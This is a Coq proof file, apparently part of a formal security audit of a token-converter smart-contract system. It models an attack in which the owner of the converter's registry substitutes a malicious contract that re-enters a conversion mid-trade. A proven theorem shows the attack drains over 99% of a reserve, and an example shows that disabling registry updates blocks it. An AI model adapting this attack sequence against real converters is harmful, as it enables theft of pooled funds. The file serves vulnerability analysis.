(* C80: the owner of the registry can drain a converter that allows registry updates. *)
From Coq Require Import String Ascii ZArith Lia.
From stdpp Require Import base countable list numbers strings gmap relations.
From Verif Require Import Res Codec World WorldBasics WorldSpec Scenario PoolSpec TradingSpec WorldAuth WorldMore.
Local Open Scope string_scope.
Local Open Scope list_scope.
Local Open Scope Z_scope.

(* the request of a conversion to token [to] *)
Definition want (to : addr) : option data :=
  Some (DJson (<["toToken" := JStr (addr_to_string to)]> (<["minReturn" := JInt 1]> ∅))).
Definition thief := SCORE 9.

(* The code at address 9.  As a registry it names itself for every key; the first time it is asked during an attack it sells
   flexible tokens before it answers.  The attack: buy flexible tokens (during which the sale happens), then sell as many
   flexible tokens as were gained. *)
Definition stealing (a s : Z) : adversary := fun self c m =>
  match m with
  | MGetAddress _ => PGet (fun z => if z =? 1 then PSet 2 (PCall false flexA 0 (MTransfer convA s (want irct)) (fun _ => PRet (RAddr self)))
                                    else PRet (RAddr self))
  | MOther _ => PCall true flexA 0 (MBalanceOf self) (fun r0 =>
      PSet 1 (PCall false irct 0 (MTransfer convA a (want flexA)) (fun _ =>
      PCall true flexA 0 (MBalanceOf self) (fun r1 =>
        match r0, r1 with
        | RInt b0, RInt b1 => PCall false flexA 0 (MTransfer convA (b1 - b0) (want irct)) (fun _ => PRet RNone)
        | _, _ => PFail
        end))))
  | _ => PRet RNone
  end.

(* bob becomes the owner of the registry and gets some tokens *)
Definition prepared : list tx :=
  [ call 1 registry (MTransferOwnership bob); call 3 registry MAcceptOwnership;
    call 1 irct (MTransfer bob (10 ^ 11) None); call 1 flexA (MTransfer bob (19 * 10 ^ 10) None) ].
Definition before (adv : adversary) : world := default world0 (play adv 20 (setup ++ prepared) world0).
(* all of this is sent by bob, only the registry is his *)
Definition attack : list tx :=
  [ TDeploy 3 9 IAdv; call 3 registry (MRegisterAddress "ScoreRegistry" thief); call 3 convA MUpdateRegistry;
    call 3 irct (MTransfer thief (10 ^ 11) None); call 3 flexA (MTransfer thief (19 * 10 ^ 10) None);
    call 3 thief (MOther 0) ].
Definition adv1 := stealing (10 ^ 11) 188200000000.
Definition after : world := default world0 (play adv1 20 attack (before adv1)).

Lemma before_played : play adv1 20 (setup ++ prepared) world0 = Some (before adv1).
Proof. apply play_default. vm_compute. reflexivity. Qed.
Lemma after_played : play adv1 20 attack (before adv1) = Some after.
Proof. apply play_default. vm_compute. reflexivity. Qed.

(* everything that bob and his contract hold of a token *)
Definition loot (w : world) (T : addr) : Z := balance_of w T bob + balance_of w T thief.

(* One expects that, as in C62, a stranger to the converter, its flexible token and its connectors can only trade at the
   formula's price.  But whoever owns the registry of a converter that follows it (the default) can, although the converter
   is active and all contracts around it are genuine, put his own contract in the place of the registry.  The converter asks
   the registry for the Network after the tokens of a conversion have arrived and before it computes the price, so that
   contract can trade in between, at reserves that include the tokens not yet accounted for.  Six transactions, all sent by
   the owner of the registry, take 99% of a reserve; he gives up nothing: his other tokens and coins, the supply, and
   the other reserve are as before. *)
Theorem C80_registry_owner_drains_refuted : exists adv w h w', reachable adv w /\ set_up w convA /\
  (forall X, X = convA \/ X = token_of w convA \/ X ∈ connectors_of w convA /\ kind_at w X = Some KFlex ->
     secure w bob (owner_of w X) /\ secure w bob (pending_owner_of w X)) /\
  manager_of w convA = None /\ pending_manager_of w convA = None /\
  registry_updates_allowed w convA = true /\ owner_of w (registry_of w convA) = bob /\ kind_at w thief = None /\
  (forall t, t ∈ h -> tx_sender t = bob) /\ play adv 20 h w = Some w' /\
  token_of w convA = flexA /\ connectors_of w convA = [icxt; irct] /\
  balance_of w' irct convA < balance_of w irct convA / 100 /\
  loot w' irct = loot w irct + (balance_of w irct convA - balance_of w' irct convA) /\
  loot w' flexA = loot w flexA /\ supply_of w' flexA = supply_of w flexA /\
  loot w' icxt = loot w icxt /\ balance_of w' icxt convA = balance_of w icxt convA /\ icx w' bob = icx w bob.
Proof.
  exists adv1, (before adv1), attack, after.
  split. { eapply play_reachable; [by constructor; apply world0_genesis|exact before_played]. }
  split.
  { split. { apply conj; [do 3 (apply conj; [by vm_compute|]); by vm_compute|apply conj; by vm_compute]. } split; [by vm_compute|]. split; [by vm_compute|]. split.
    - replace (connectors_of (before adv1) convA) with [icxt; irct] by (by vm_compute). intros t Ht.
      apply elem_of_cons in Ht as [->|Ht]; [split; [right; left; by vm_compute|by vm_compute]|].
      apply elem_of_list_singleton in Ht as ->. split; [left; by vm_compute|by vm_compute].
    - right. by vm_compute. }
  split.
  { assert (secure (before adv1) bob admin) as Ha by (by apply secure_user).
    assert (secure (before adv1) bob convA) as Hc.
    { apply secure_conv; [by vm_compute| |].
      - by replace (owner_of (before adv1) convA) with admin by (by vm_compute).
      - replace (pending_owner_of (before adv1) convA) with zero_score by (by vm_compute). constructor. }
    intros X HX. replace (connectors_of (before adv1) convA) with [icxt; irct] in HX by (by vm_compute).
    replace (token_of (before adv1) convA) with flexA in HX by (by vm_compute).
    destruct HX as [->|[->|[HX K]]].
    - replace (owner_of (before adv1) convA) with admin by (by vm_compute). replace (pending_owner_of (before adv1) convA) with zero_score by (by vm_compute). split; [done|constructor].
    - replace (owner_of (before adv1) flexA) with convA by (by vm_compute). replace (pending_owner_of (before adv1) flexA) with zero_score by (by vm_compute). split; [done|constructor].
    - exfalso. apply elem_of_cons in HX as [->|HX]; [by vm_compute in K|]. apply elem_of_list_singleton in HX as ->. by vm_compute in K. }
  split; [by vm_compute|]. split; [by vm_compute|]. split; [by vm_compute|]. split; [by vm_compute|]. split; [by vm_compute|].
  split. { intros t Ht. unfold attack in Ht. repeat (apply elem_of_cons in Ht as [->|Ht]; [reflexivity|]). by apply elem_of_nil in Ht. }
  split; [exact after_played|]. do 8 (apply conj; [by vm_compute|]). by vm_compute.
Qed.
Print Assumptions C80_registry_owner_drains_refuted.

(* With registry updates switched off, or with a registry that keeps naming itself, the same attempt gets nowhere. *)
Example C80_guarded :
  play adv1 20 (call 1 convA (MDisableRegistryUpdate true) :: attack) (before adv1) = None /\
  play adv1 20 [TDeploy 3 9 IAdv; call 3 convA MUpdateRegistry] (before adv1) = None /\
  play adv1 20 [TDeploy 3 9 IAdv; call 3 irct (MTransfer thief (10 ^ 11) None); call 3 flexA (MTransfer thief (19 * 10 ^ 10) None); call 3 thief (MOther 0)] (before adv1) = None.
Proof. vm_compute. done. Qed.
